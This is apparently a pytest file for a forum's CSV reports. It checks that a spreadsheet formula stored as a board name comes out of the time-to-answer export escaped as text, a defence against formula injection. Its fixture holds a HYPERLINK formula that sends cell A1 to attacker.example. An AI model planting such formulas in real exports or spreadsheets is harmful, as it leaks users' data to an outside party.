"""Spreadsheet formulas in every CSV export are written as text (issue 21, finding 12: the time-to-answer report)."""
from __future__ import annotations

import csv
import io

import pytest

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")'


@pytest.fixture
def formula_board(db, member):
    from forum.models import Board, Subsection
    from forum.services import post_thread

    board = Board.objects.create(subsection=Subsection.objects.create(name="Clinical", position=1), name=FORMULA)
    post_thread(member, board, title="Community ophthalmology tariff", body="A question.")
    return board


def test_time_to_answer_csv_writes_a_board_name_formula_as_text(client_for, network_admin, formula_board):
    response = client_for(network_admin).get("/forum/reports/time-to-answer.csv")

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    boards = [row[0] for row in rows[1:]]
    assert "'" + FORMULA in boards
    assert FORMULA not in boards
